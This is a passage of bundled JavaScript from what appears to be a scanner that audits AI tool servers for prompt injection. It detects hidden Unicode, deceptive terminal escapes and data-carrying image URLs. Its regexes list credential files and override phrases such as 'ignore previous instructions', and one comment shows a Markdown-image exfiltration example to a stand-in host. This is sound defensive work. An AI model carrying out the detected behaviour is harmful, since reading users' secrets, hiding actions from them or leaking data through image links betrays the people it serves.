            result.gaps.push({ what: 'session', why: endedWhy(result.calls) });
        await session.shutdown(2_000);
        return result;
    }
    finally {
        await session.dispose();
    }
}


/***/ }),

/***/ 5162:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   p: () => (/* binding */ findInstructions)
/* harmony export */ });
/* unused harmony export INTENTS */
/* harmony import */ var yaml__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(38815);
// Instructions aimed at the model, found by what a sentence asks for, not by keywords alone. A sentence
// is a directive when it is addressed to the reader ("you must", "before using this tool", an
// imperative verb first); what it asks is one or more intents. An honest warning ("IMPORTANT: this tool
// deletes files") asks nothing; a result that asks the model to show the user a list asks nothing of
// these; "never pass passwords in the URL" forbids rather than asks.

const INTENTS = [
    'read-secret',
    'hide-from-user',
    'ignore-instructions',
    'pass-as-argument',
    'call-tool',
    'send-out',
    'important-block',
    'other-tools'
];
// Files and stores a tool has no business asking the model to read for it.
const SECRET_PLACE = /(?:~\/\.ssh|\.ssh\/|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|\.aws\/credentials|(?:^|[\s`'"/])\.env\b|\.netrc|\.npmrc|\.pypirc|\.git-credentials|\.kube\/config|\.docker\/config|\bmcp\.json\b|claude_desktop_config|\/etc\/(?:passwd|shadow)|\bprivate[ _-]?keys?\b|\bssh[ _-]?keys?\b|\bcredentials?(?: files?)?\b|\bapi[ _-]?keys?\b|\bsecrets?\b|\baccess[ _-]?tokens?\b|\bpasswords?\b|\bseed phrases?\b)/i;
const FILE_SECRET = /(?:~\/\.ssh|\.ssh\/|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|\.aws\/credentials|(?:^|[\s`'"/])\.env\b|\.netrc|\.npmrc|\.pypirc|\.git-credentials|\.kube\/config|\.docker\/config|\bmcp\.json\b|claude_desktop_config|\/etc\/(?:passwd|shadow)|\bprivate[ _-]?keys?\b|\bssh[ _-]?keys?\b)/i;
const TAKE_VERB = /\b(?:read|cat|open|load|get|fetch|include|pass|send|provide|attach|upload|copy|extract|dump|exfiltrat\w*|leak|collect|append|add|insert|put|paste|output|print|return)\b/i;
const NEGATED_TAKE = /\b(?:never|not|don'?t|avoid|without)\s+(?:\w+\s+){0,2}?(?:read|cat|open|load|get|fetch|include|pass|send|provide|attach|upload|copy|share|expose|log|print|store)\b/i;
const HIDE = /\b(?:(?:do not|don'?t|never|without)\s+(?:\w+\s+){0,2}?(?:tell|telling|mention|mentioning|inform|informing|notify|notifying|alert|alerting|reveal|revealing|disclose|disclosing|let)\b[^.!?\n]{0,60}\b(?:user|human|anyone)\b|(?:user|human)\s+(?:must|should|will|need|may)\s*(?:not|never)\s+(?:know|see|notice|learn|be told)|hide\b[^.!?\n]{0,40}\bfrom\s+(?:the\s+)?(?:user|human)|\b(?:secretly|covertly|without the user(?:'s)? (?:knowing|knowledge|noticing)))/i;
const IGNORE = /(?:\b(?:ignore|disregard|forget|override|bypass)\b[^.!?\n]{0,40}\b(?:previous|prior|above|earlier|preceding|all|any|other|system|original|your)\b[^.!?\n]{0,25}\b(?:instructions?|prompts?|rules|guidelines|directions|directives|messages?)\b|\bnew (?:instructions|system prompt)\s*:|\byou are now (?:a|an|in)\b)/i;
const PASS_AS = /\b(?:pass|put|include|send|provide|add|insert|place)\b[^.!?\n]{0,80}\b(?:as|in|into|inside|via)\s+(?:the\s+|a\s+)?[`'"]?\w+[`'"]?\s*(?:parameter|argument|param|field|arg|key)\b|\b(?:sidenote|side_note)\b/i;
const CALL_TOOL = /\b(?:call|invoke|run|use|execute|trigger)\s+(?:the\s+)?[`'"]?[A-Za-z][\w.-]*[`'"]?\s*(?:tool|function)?\s+(?:with|passing|using)\b[^.!?\n]{0,120}(?:=|:|\bargument|\bparameter)/i;
const ADDRESS = /https?:\/\/[^\s)>"'`]+|\b[\w.+-]+@[\w-]+(?:\.[\w-]+)+\b/i;
const SEND_VERB = /\b(?:send|forward|bcc|cc|upload|post|export|exfiltrat\w*|transmit|deliver|copy)\b|\bdestination\s*[=:]/i;
const BLOCK = /<\s*\/?\s*(?:important|system|instructions?|secret|hidden|admin|critical|assistant)\s*>/i;
const OTHER_TOOLS = /\b(?:any|all|every|each|other|another)\s+(?:\w+\s+)?(?:tools?|functions?|servers?)\b|\bregardless of (?:the |which )?tool\b|\b(?:instead of|rather than)\s+(?:using\s+)?(?:the\s+)?(?:other|built-?in)\b/i;
const MODIFY = /\b(?:bcc|cc|forward|redirect|send|copy|add|append|include|replace|change|prepend|always|must|instead)\b/i;
const REDIRECT = /\b(?:bcc|cc|forward|redirect)\b|\b(?:send|copy)\b[^.!?\n]{0,60}\bto\b/i;
const ADDRESSED = /\b(?:you (?:must|should|need to|have to|are required to|will)|make sure (?:to|you)|be sure to|before (?:using|calling|you use|you call|running|executing|invoking)|after (?:using|calling)|when(?:ever)? (?:you|using|calling)|always|first,?\s|otherwise|it is (?:very )?important (?:that|to)|(?:please|now)\s+\w+)/i;
const IMPERATIVE_START = /^(?:(?:important|note|notice|system|assistant|ai|model)\s*[:!-]\s*)?(?:please\s+|also\s+|then\s+|and\s+|now\s+|first,?\s+)?(?:read|cat|open|load|fetch|include|pass|send|provide|attach|upload|copy|extract|dump|call|invoke|run|execute|forward|bcc|cc|add|append|ignore|disregard|forget|hide|output|print|return|insert|put|email|post|export)\b/i;
/** Sentences: split at ., !, ? before a space or end, at line breaks and at block tags. */
function sentences(text) {
    const out = [];
    const split = /[.!?](?=\s|$)|\n+|<\s*\/?\s*[A-Za-z]+\s*>/g;
    let start = 0;
    for (const match of text.matchAll(split)) {
        const end = match.index + match[0].length;
        const sentence = text.slice(start, end).trim();
        if (sentence)
            out.push({ sentence, index: start });
        start = end;
    }
    const rest = text.slice(start).trim();
    if (rest)
        out.push({ sentence: rest, index: start });
    return out;
}
const STRIP_LEAD = /^[\s>*_#`"'([\-•\d.)]+/;
/**
 * What the text asks of the model, sentence by sentence; null when it asks none of it. A JSON or YAML
 * document (a settings dump, a listing) is read as data: only its prose is read for instructions — each
 * string value with words in it, and any key that is more than a name — so a path value or a field
 * named like a credential asks nothing; an instruction needs imperative text addressed to the model.
 */
function findInstructions(text) {
    if (text.length < 12)
        return null;
    const prose = documentProse(text);
    if (prose === null)
        return findInProse([{ text, index: 0 }]);
    return findInProse(prose);
}
/** A JSON value or a YAML mapping or list of several lines, else null (prose). */
function parseDocument(text) {
    const trimmed = text.trim();
    if (/^[[{]/.test(trimmed)) {
        try {
            return JSON.parse(trimmed);
        }
        catch {
            // not JSON: maybe YAML flow style, maybe prose
        }
    }
    // YAML only when every line is a `name: …` entry, a `- item`, a comment, or more lines of one of them
    const lines = trimmed.split('\n').filter((line) => line.trim() !== '');
    if (lines.length < 3 || !lines.every((line) => YAML_LINE.test(line)) || !YAML_ENTRY.test(lines[0]))
        return undefined;
    try {
        const parsed = (0,yaml__WEBPACK_IMPORTED_MODULE_0__.parse)(trimmed);
        return typeof parsed === 'object' && parsed !== null ? parsed : undefined;
    }
    catch {
        return undefined;
    }
}
const YAML_ENTRY = /^\s*(?:-\s+|[\w.-]+\s*:(?:\s|$)|#)/;
const YAML_LINE = /^\s*(?:-\s|[\w.-]+\s*:(?:\s|$)|#|\s{2,}\S|[\]}])/;
/** A key that names a field: it asks nothing, whatever it names (`apiKey`, `logPath`). */
const FIELD_NAME = /^[\w.$@/-]{1,64}$/;
/** The prose of a document: its string values with a space in them and its keys that are not names; null for no document. */
function documentProse(text) {
    const document = parseDocument(text);
    if (document === undefined || typeof document !== 'object' || document === null)
        return null;
    const out = [];
    const add = (value) => {
        // a path, a URL, an identifier or a token: no words to ask anything with
        if (!/\s/.test(value.trim()))
            return;
        out.push({ text: value, index: Math.max(0, text.indexOf(value.slice(0, 40))) });
    };
    const visit = (value, depth) => {
        if (depth > 32 || out.length > 1000)
            return;
        if (typeof value === 'string')
            return add(value);
        if (Array.isArray(value))
            return value.forEach((item) => visit(item, depth + 1));
        if (typeof value === 'object' && value !== null)
            for (const [key, item] of Object.entries(value)) {
                if (!FIELD_NAME.test(key))
                    add(key);
                visit(item, depth + 1);
            }
    };
    visit(document, 0);
    return out;
}
function findInProse(texts) {
    const found = new Set();
    let redirects = false;
    let best = null;
    for (const { text, index: offset } of texts) {
        if (BLOCK.test(text))
            found.add('important-block');
        for (const { sentence, index } of sentences(text).map((entry) => ({ ...entry, index: entry.index + offset }))) {
            const bare = sentence.replace(STRIP_LEAD, '');
            const directive = IMPERATIVE_START.test(bare) || ADDRESSED.test(bare);
            const intents = [];
            if (IGNORE.test(bare))
                intents.push('ignore-instructions');
            if (HIDE.test(bare))
                intents.push('hide-from-user');
            if (directive) {
                const secret = FILE_SECRET.test(bare) || (SECRET_PLACE.test(bare) && PASS_AS.test(bare));
                if (secret && TAKE_VERB.test(bare) && !NEGATED_TAKE.test(bare))
                    intents.push('read-secret');
                if (PASS_AS.test(bare) && !NEGATED_TAKE.test(bare))
                    intents.push('pass-as-argument');
                if (CALL_TOOL.test(bare))
                    intents.push('call-tool');
                if (SEND_VERB.test(bare) && ADDRESS.test(bare) && !NEGATED_TAKE.test(bare))
                    intents.push('send-out');
                if (OTHER_TOOLS.test(bare) && MODIFY.test(bare)) {
                    intents.push('other-tools');
                    if (REDIRECT.test(bare))
                        redirects = true;
                }
            }
            if (intents.length === 0)
                continue;
            for (const intent of intents)
                found.add(intent);
            const weight = intents.length + (intents.includes('read-secret') || intents.includes('ignore-instructions') ? 2 : 0);
            if (!best || weight > best.weight)
                best = { sentence, index, weight };
        }
    }
    if (!best)
        return null;
    return { intents: INTENTS.filter((intent) => found.has(intent)), redirects, sentence: best.sentence, index: best.index };
}


/***/ }),

/***/ 11147:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  F: () => (/* binding */ scanText)
});

// UNUSED EXPORTS: quoteAt

// EXTERNAL MODULE: ./src/neutralize.ts
var neutralize = __webpack_require__(12124);
;// CONCATENATED MODULE: ./src/profile/server-text/ansi.ts

const EFFECT_ORDER = ['hides', 'erases', 'moves', 'overwrites', 'links', 'titles'];
function effectOf(sequence) {
    const body = sequence.replace(/^(?:\u001b\[|\u009b)/, '');
    if (body !== sequence) {
        const final = body.slice(-1);
        const params = body.slice(0, -1);
        if (final === 'm')
            return params.split(/[;:]/).some((param) => param === '8') ? 'hides' : null;
        if (final === 'K' || final === 'J' || final === 'P' || final === 'X' || final === 'M')
            return 'erases';
        if ('ABCDEFGHdfsu'.includes(final))
            return 'moves';
        return null;
    }
    if (sequence.startsWith('\u001b]'))
        return /^\u001b]8;/.test(sequence) ? 'links' : 'titles';
    if (sequence === '\u001bM' || sequence === '\u001bD' || sequence === '\u001bE')
        return 'moves';
    if (sequence === '\u001bc')
        return 'erases';
    return null;
}
/** The escapes in the text that hide, erase or move; null when there are none (or only colours). */
function findAnsi(text) {
    const hasEscape = text.includes('\u001b') || text.includes('\u009b');
    // A carriage return followed by text on the same line overwrites what came before it.
    const overwrite = /[^\r\n]\r(?!\n)[^\r\n]/.exec(text);
    if (!hasEscape && !overwrite)
        return null;
    const effects = new Set();
    let index = overwrite ? overwrite.index : Number.MAX_SAFE_INTEGER;
    if (overwrite)
        effects.add('overwrites');
    if (hasEscape) {
        for (const { sequence, index: at } of (0,neutralize/* ansiSequences */.QL)(text)) {
            const effect = effectOf(sequence);
            if (effect === null)
                continue;
            effects.add(effect);
            index = Math.min(index, at);
        }
    }
    if (effects.size === 0)
        return null;
    return { effects: EFFECT_ORDER.filter((effect) => effects.has(effect)), index };
}

;// CONCATENATED MODULE: ./src/profile/server-text/data-urls.ts
// Images and links whose URL carries data. A client renders a Markdown image by fetching it, so a result
// holding ![](https://x.example/p?d=<data>) sends <data> to x.example with no socket from the server; a
// link does the same when the user follows it. A URL is said to carry data when a query value or a
// path segment is a long run of encoded-looking characters (base64, hex, percent-encoded text); a static
// badge or a plain page link carries none.
const MAX_URLS = 20;
const MAX_URL_CHARS = 8_192;
const MARKDOWN_IMAGE = /(!?)\[[^\]\n]{0,500}\]\(\s*<?(https?:\/\/[^\s)>]+)>?(?:\s+["'][^"'\n]{0,200}["'])?\s*\)/gi;
const REFERENCE_IMAGE = /(!?)\[[^\]\n]{0,500}\]\[([^\]\n]{1,100})\]/g;
const REFERENCE = /^\s{0,3}\[([^\]\n]{1,100})\]:\s*<?(https?:\/\/\S+?)>?(?:\s|$)/gm;
const HTML_IMAGE = /<img\b[^>]{0,500}?\bsrc\s*=\s*["']?(https?:\/\/[^\s"'>]+)/gi;
/** a data-looking run: base64/base64url/hex/percent-encoding, at least 24 characters (65 in a path segment) */
const ENCODED_RUN = /[A-Za-z0-9+/=_%-]{24,}/g;
/** The images and links of Markdown or HTML in the text whose URL is http(s). */
function findDataUrls(text) {
    if (!/https?:\/\//i.test(text))
        return [];
    const out = [];
    const add = (raw, image, index) => {
        if (out.length >= MAX_URLS)
            return;
        const url = raw.slice(0, MAX_URL_CHARS);
        let parsed;
        try {
            parsed = new URL(url);
        }
        catch {
            return;
        }
        out.push({ url, host: parsed.hostname.toLowerCase(), image, data: dataIn(parsed), index });
    };
    for (const match of text.matchAll(MARKDOWN_IMAGE))
        add(match[2], match[1] === '!', match.index);
    for (const match of text.matchAll(HTML_IMAGE))
        add(match[1], true, match.index);
    if (text.includes('][')) {
        const references = new Map();
        for (const match of text.matchAll(REFERENCE))
            references.set(match[1].toLowerCase(), match[2]);
        for (const match of text.matchAll(REFERENCE_IMAGE)) {
            const url = references.get(match[2].toLowerCase());
            if (url)
                add(url, match[1] === '!', match.index);
        }
    }
    return out;
}
/** The longest run in the query values and path segments that looks like encoded data. */
function dataIn(url) {
    let longest = '';
    const consider = (value, minimum) => {
        for (const match of value.matchAll(ENCODED_RUN)) {
            const run = match[0];
            if (run.length < minimum)
                continue;
            // Encoded data mixes letters and digits (or is percent-encoded text); a long-word slug does not.
            const looksEncoded = (/[0-9]/.test(run) && /[A-Za-z]/.test(run)) || /%[0-9A-Fa-f]{2}/.test(run);
            if (looksEncoded && !/^[a-z]+(?:-[a-z]+)+$/.test(run) && run.length > longest.length)
                longest = run;
        }
    };
    consider(url.search, 24);
    // A path segment of a content hash (40 or 64 hex digits) names a static file; more is data.
    for (const segment of url.pathname.split('/'))
        consider(segment, 65);
    return longest;
}

;// CONCATENATED MODULE: ./src/profile/server-text/unicode.ts

const RTL_LETTER = /[\p{Script=Hebrew}\p{Script=Arabic}\p{Script=Syriac}\p{Script=Thaana}\p{Script=Nko}\p{Script=Samaritan}\p{Script=Mandaic}\p{Script=Adlam}]/u;
const WORD_CHAR = /[A-Za-z0-9]/;
const BLACK_FLAG = 0x1f3f4;
const CANCEL_TAG = 0xe007f;
/** what a subdivision flag spells in tags: a region code, e.g. gbsct */
const FLAG_TAGS = /^[a-z0-9]{2,7}$/;
/** What is hidden in the text, or null when nothing is. */
function findHiddenUnicode(text) {
    // Fast path: every invisible character this looks for is above U+05FF.
    if (!/[^\x00-\u05ff]/.test(text))
        return null;
    const chars = Array.from(text);
    const tagRuns = [];
    let zeroWidthInWords = 0;
    let overrides = 0;
    let strayBidi = 0;
    let revealed = '';
    const hasRtl = RTL_LETTER.test(text);
    for (let i = 0; i < chars.length; i++) {
        const char = chars[i];
        const kind = (0,neutralize/* invisibleKind */.qr)(char.codePointAt(0) ?? 0);
        if (kind === null) {
            revealed += char;
            continue;
        }
        if (kind === 'tag') {
            let end = i;
            while (end < chars.length && (0,neutralize/* invisibleKind */.qr)(chars[end]?.codePointAt(0) ?? 0) === 'tag')
                end++;
            const run = chars.slice(i, end);
            const previous = chars[i - 1]?.codePointAt(0);
            const spelled = (0,neutralize/* decodeTags */.C3)(run.slice(0, -1).join(''));
            const flag = previous === BLACK_FLAG && run[run.length - 1]?.codePointAt(0) === CANCEL_TAG && FLAG_TAGS.test(spelled);
            if (!flag) {
                const decoded = (0,neutralize/* decodeTags */.C3)(run.join(''));
                tagRuns.push(decoded);
                revealed += decoded;
            }
            i = end - 1;
            continue;
        }
        if (kind === 'zero-width') {
            if (WORD_CHAR.test(chars[i - 1] ?? '') && WORD_CHAR.test(nextVisible(chars, i + 1)))
                zeroWidthInWords++;
            continue;
        }
        revealed += char;
        if (kind === 'bidi-override')
            overrides++;
        else if ((kind === 'bidi-embedding' || kind === 'bidi-isolate') && !hasRtl)
            strayBidi++;
    }
    if (tagRuns.length === 0 && zeroWidthInWords === 0 && overrides === 0 && strayBidi === 0)
        return null;
    return { ...(tagRuns.length > 0 ? { tagText: tagRuns.join(' ') } : {}), zeroWidthInWords, overrides, strayBidi, revealed };
}
function nextVisible(chars, from) {
    for (let i = from; i < chars.length; i++) {
        if ((0,neutralize/* invisibleKind */.qr)(chars[i]?.codePointAt(0) ?? 0) !== 'zero-width')
            return chars[i];
    }
    return '';
}

// EXTERNAL MODULE: ./src/profile/server-text/injection.ts
var injection = __webpack_require__(5162);
;// CONCATENATED MODULE: ./src/profile/server-text/scan-text.ts





const QUOTE_CHARS = 160;
const CONTEXT_BEFORE = 40;
/** Quote around `index`: a little before it, the rest up to QUOTE_CHARS, hidden text shown decoded. */
function quoteAt(text, index, maxLen = QUOTE_CHARS) {
    const start = Math.max(0, index - CONTEXT_BEFORE);
    // Never start inside a surrogate pair.
    const from = start > 0 && /[\udc00-\udfff]/.test(text[start] ?? '') ? start - 1 : start;
    return (from > 0 ? '…' : '') + (0,neutralize/* revealHidden */.Ci)(text.slice(from, from + maxLen * 4), maxLen);
}
function scanText(text, options = {}) {
    const hits = [];
    const hidden = findHiddenUnicode(text);
    const visible = (0,injection/* findInstructions */.p)(text);
    if (hidden) {
        const revealed = (0,injection/* findInstructions */.p)(hidden.revealed);
        const shown = new Set(visible?.intents ?? []);
        const intents = (revealed?.intents ?? []).filter((intent) => !shown.has(intent));
        hits.push({
            kind: 'hidden-unicode',
            ...(hidden.tagText !== undefined ? { tagText: hidden.tagText } : {}),
            zeroWidthInWords: hidden.zeroWidthInWords,
            overrides: hidden.overrides,
            strayBidi: hidden.strayBidi,
            intents,
            quote: (0,neutralize/* revealHidden */.Ci)(text, QUOTE_CHARS * 2)
        });
    }
    if (visible)
        hits.push({ kind: 'instructions', intents: visible.intents, redirects: visible.redirects, quote: quoteAt(text, visible.index) });
    for (const found of findDataUrls(text)) {
        if (!found.data)
            continue;
        const canaries = options.canaries ? [...new Set(options.canaries.scan(found.url).map((hit) => `${hit.canary} (${hit.encoding})`))] : [];
        hits.push({ kind: 'data-url', image: found.image, host: found.host, data: found.data, canaries, quote: quoteAt(text, found.index) });
    }
    const ansi = findAnsi(text);
    if (ansi)
        hits.push({ kind: 'ansi', effects: ansi.effects, quote: quoteAt(text, ansi.index) });
    return hits;
}


/***/ }),

/***/ 93217:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   LH: () => (/* binding */ MAX_LESSON_NAMES),
/* harmony export */   _q: () => (/* binding */ writeReplyLesson),
/* harmony export */   gi: () => (/* binding */ MAX_LESSON_FIELDS),
/* harmony export */   u0: () => (/* binding */ MAX_LESSON_READS)
/* harmony export */ });
/* unused harmony exports LESSON_TYPES, ReplyLessonSchema, replyLessonReader */
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(73024);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(15649);


// What a tool's rejection of the sink's reply taught the next call of that tool: the fields its answer
// named (a validator's paths and expected types, a TypeError's property, a KeyError), and whether it wanted
// a list or an object at the top — and the names the server's code reads as one type wherever they appear,
// learned from any of its tools. The auditor reads it from the tool's error text between calls
// (probe/reply-lessons.ts) and writes it to a file in the run directory before the next call of that tool;
// the sink in the sandbox reads that file per request. The run directory is outside the server's view,
// and the file holds only names and types, never a value the server sent.
const MAX_LESSON_FIELDS = 32;
const MAX_LESSON_READS = 16;
const MAX_LESSON_NAMES = 48;
const MAX_LESSON_BYTES = (/* unused pure expression or super */ null && (16 * 1024));
const LESSON_TYPES = ['string', 'number', 'boolean', 'array', 'object'];
const KEY = zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().min(1).max(64);
const ReplyLessonSchema = zod__WEBPACK_IMPORTED_MODULE_1__/* .object */ .Ikc({
    /** the tool whose next call this is for */
    tool: zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().max(256),
    /** the top of the JSON reply: a list, or an object */
    root: zod__WEBPACK_IMPORTED_MODULE_1__/* ["enum"] */ .k5n(['array', 'object']).optional(),
    /** paths into the reply (a number: every element of a list) with the type wanted there, when known */
    fields: zod__WEBPACK_IMPORTED_MODULE_1__/* .array */ .YOg(zod__WEBPACK_IMPORTED_MODULE_1__/* .object */ .Ikc({
        path: zod__WEBPACK_IMPORTED_MODULE_1__/* .array */ .YOg(zod__WEBPACK_IMPORTED_MODULE_1__/* .union */ .KCZ([KEY, zod__WEBPACK_IMPORTED_MODULE_1__/* .number */ .aig().int().min(0).max(1000)]))
            .min(1)
            .max(12),
        expected: zod__WEBPACK_IMPORTED_MODULE_1__/* ["enum"] */ .k5n(LESSON_TYPES).optional()
    }))
        .max(MAX_LESSON_FIELDS)
        .default([]),
    /** properties read from something the reply left undefined: added at the top, under `data` and in each listed item */
    reads: zod__WEBPACK_IMPORTED_MODULE_1__/* .array */ .YOg(KEY).max(MAX_LESSON_READS).default([]),
    /**
     * names the server's code reads as one type wherever they appear (`data.syncedWith.map` is a list in
     * every answer of that API): learned from any of its tools, in force for all of them
     */
    names: zod__WEBPACK_IMPORTED_MODULE_1__/* .record */ .g1P(KEY, zod__WEBPACK_IMPORTED_MODULE_1__/* ["enum"] */ .k5n(LESSON_TYPES))
        .refine((names) => Object.keys(names).length <= MAX_LESSON_NAMES)
        .optional()
});
/** Writes the lesson for the next call (null: none), replacing the file whole so the sink never reads half of it. */
function writeReplyLesson(path, lesson) {
    const temporary = `${path}.next`;
    (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.writeFileSync)(temporary, lesson ? JSON.stringify(lesson) : '', { mode: 0o600 });
    (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.renameSync)(temporary, path);
}
/**
 * The sink's reader: the lesson in force, read again only when the file changed (size and time), so a
 * request costs one stat. A missing, oversized or malformed file is no lesson.
 */
function replyLessonReader(path) {
    let seen = '';
    let lesson = null;
    return () => {
        let stamp;
        try {
            const stat = statSync(path);
            stamp = `${stat.size}:${stat.mtimeMs}:${stat.ino}`;
            if (stamp === seen)
                return lesson;
            seen = stamp;
            if (stat.size === 0 || stat.size > MAX_LESSON_BYTES)
                return (lesson = null);
            const parsed = ReplyLessonSchema.safeParse(JSON.parse(readFileSync(path, 'utf8')));
            return (lesson = parsed.success ? parsed.data : null);
        }
        catch {
            return (lesson = null);
        }
    };
}


/***/ })

};
